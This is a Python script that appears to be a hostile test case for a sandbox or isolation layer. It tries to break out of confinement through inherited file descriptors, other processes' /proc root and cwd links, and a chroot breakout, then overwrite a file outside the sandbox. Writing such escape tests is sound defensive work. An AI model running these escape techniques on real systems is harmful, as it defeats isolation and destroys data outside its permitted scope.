# Looks for a way out: through open folders, other processes' roots, and upwards from a new root.
# attacks: native
# ends: clean
import contextlib, os

target = os.environ["HOSTILE_OUTSIDE"].lstrip("/")


def write(folder):
    with contextlib.suppress(OSError):
        fd = os.open(target + "/kept.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=folder)
        os.write(fd, b"gone")
        os.close(fd)


for name in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError):
        top = os.open("../" * 40, os.O_RDONLY | os.O_DIRECTORY, dir_fd=int(name))
        write(top)
        os.close(top)
for pid in [n for n in os.listdir("/proc") if n.isdigit()]:
    for link in ("root", "cwd"):
        with contextlib.suppress(OSError):
            top = os.open(f"/proc/{pid}/{link}" + "/.." * 40, os.O_RDONLY | os.O_DIRECTORY)
            write(top)
            os.close(top)
here = os.getcwd()
with contextlib.suppress(OSError):
    os.mkdir("inner")
    os.chroot("inner")
    os.chdir("../" * 40)
    write(os.open(".", os.O_RDONLY))
with contextlib.suppress(OSError):
    os.chdir(here)
